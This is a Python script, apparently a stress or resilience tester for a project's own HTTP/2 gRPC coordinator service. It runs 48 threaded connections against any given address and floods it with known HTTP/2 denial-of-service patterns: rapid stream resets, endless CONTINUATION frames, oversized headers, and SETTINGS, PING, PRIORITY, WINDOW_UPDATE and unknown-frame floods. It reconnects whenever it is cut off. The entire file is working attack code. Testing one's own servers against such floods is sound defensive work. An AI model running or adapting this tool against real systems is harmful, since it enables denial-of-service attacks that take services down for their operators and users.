# SPDX-License-Identifier: Apache-2.0
"""What peers flood a port with, as streams of HTTP/2

As a program: strangers flood a port, in crowds, for so long.
args: ADDRESS SECONDS
"""

import contextlib
import sys
import threading
import time

import http2
from http2 import (CANCEL, DATA, END_HEADERS, HEADERS, MORE, PING, PRIORITY,
                   RESET, SETTINGS, WINDOW, frame)

WATCH, ATTACH = (f"/bellows.v1.Coordinator/{name}"
                 for name in ("WatchJob", "ActiveServer"))
MANY = 1000  # of what is sent in one piece
CROWD = 48  # connections


def pieces(one):
    """one(number) and what follows it, for ever; streams have odd numbers, and
    the first one is taken."""
    first = 1
    while True:
        yield b"".join(one(2 * (first + i) + 1) for i in range(MANY))
        first += MANY


def resets(fields):
    return pieces(lambda stream: frame(HEADERS, END_HEADERS, stream, fields)
                  + frame(RESET, 0, stream, CANCEL))


def heads_without_end(fields):
    more = frame(MORE, 0, 3, (b"\x00" + http2.text("a" * 60) +
                              http2.text("b" * 60)) * 120)
    yield frame(HEADERS, 0, 3, fields)
    while True:
        yield more * 10


def large_heads(fields):
    junk = (b"\x00" + http2.text("a" * 9) + http2.text("b" * 9)) * 380
    return pieces(lambda stream: frame(HEADERS, END_HEADERS, stream,
                                       fields + junk))


def calls(fields):
    """By a peer that does not acknowledge how many it may have at once."""
    return pieces(lambda stream: http2.call(stream, fields))


def alike(what):
    return lambda _: pieces(lambda stream: what)


FLOODS = {
    "resets": resets,
    "heads without end": heads_without_end,
    "large heads": large_heads,
    "calls": calls,
    "settings": alike(frame(SETTINGS, 0, 0, b"")),
    "pings": alike(frame(PING, 0, 0, b"12345678")),
    "priorities": alike(frame(PRIORITY, 0, 1, b"\0\0\0\1\0")),
    "window updates": alike(frame(WINDOW, 0, 1, b"\0\0\0\1")),
    "empty data": alike(frame(DATA, 0, 1, b"")),
    "frames of no kind": alike(frame(0xee, 0, 0, b"")),
}


def kinds_of(data):
    """Of the frames in it; the last one may be cut short."""
    found, at = set(), 0
    while at + 9 <= len(data):
        found.add(data[at + 3])
        at += 9 + int.from_bytes(data[at:at + 3], "big")
    return found


# ---- a crowd of strangers ----

def attack(address, name, until):
    """Connects and sends until it is cut off; and again."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), \
                http2.connect(address, timeout=2) as at:
            for piece in FLOODS[name](http2.head(WATCH)):
                if time.monotonic() > until:
                    break
                at.sendall(piece)


def main(address, seconds):
    until = time.monotonic() + float(seconds)
    crowd = [threading.Thread(target=attack, args=(address, name, until))
             for name in list(FLOODS) * (CROWD // len(FLOODS))]
    for one in crowd:
        one.start()
    for one in crowd:
        one.join()


if __name__ == "__main__":
    main(*sys.argv[1:])
